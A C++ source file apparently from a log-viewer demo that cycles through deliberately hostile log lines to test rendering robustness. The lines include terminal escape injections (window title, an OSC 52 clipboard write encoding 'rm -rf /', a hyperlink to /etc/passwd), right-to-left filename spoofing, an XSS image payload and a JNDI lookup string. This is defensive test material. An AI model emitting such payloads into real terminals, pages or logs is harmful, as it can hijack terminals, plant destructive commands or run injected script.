// SPDX-License-Identifier: Apache-2.0
#include "app/demo/log_lines.h"

#include <array>
#include <string_view>

namespace pilothouse::demo {

using namespace std::string_view_literals;

void appendHostile(std::string& out, std::uint64_t sequence) {
    static constexpr std::array kTexts{
        "NUL \0 inside"sv,
        "broken UTF-8 \xc3\x28 \xff\xfe \xed\xa0\x80 \xf5\x80\x80\x80"sv,
        "title \x1b]0;pwned\x07 clipboard \x1b]52;c;cm0gLXJmIC8=\x07 link \x1b]8;;file:///etc/passwd\x07here\x1b]8;;\x07"sv,
        "questions \x05 \x1b[6n \x1b[c \x1b[>c \x1bP$qm\x1b\\ \x1bP+q544e\x1b\\ \x1b[21t \x1bZ"sv,
        "moves \x1b[2J\x1b[H\x1b[999A\x1b[1000000@\x1b[?1049h\x1b[3J"sv,
        "carriage\rreturns\rover itself"sv,
        "backspace\b\b\b\b and bell \a and form feed \f and vertical tab \v"sv,
        "right to left \u202e gnp.exe \u202c isolates \u2066x\u2069"sv,
        "zalgo Z\u0351\u036b\u0343\u0363\u0352\u0301a\u0323\u0348\u0324l\u0321\u0350g\u0337o wide \u6f22\u5b57 family "
        "\U0001f468\u200d\U0001f469\u200d\U0001f467"sv,
        "unfinished \x1b[38;2;255;"sv,
        "unfinished string \x1b]0;never ends"sv,
        "<b>html</b> &amp; <img src=x onerror=alert(1)> {{.Values}} ${jndi:ldap://x}"sv,
        "a line separator \u2028 and a paragraph separator \u2029 and NEL \u0085"sv,
        "eight-bit controls \x9b"
        "6n \x9d"
        "0;x\x9c"sv,
    };
    out += "seq=" + std::to_string(sequence) + ' ';
    out += kTexts[sequence % kTexts.size()];
}

} // namespace pilothouse::demo
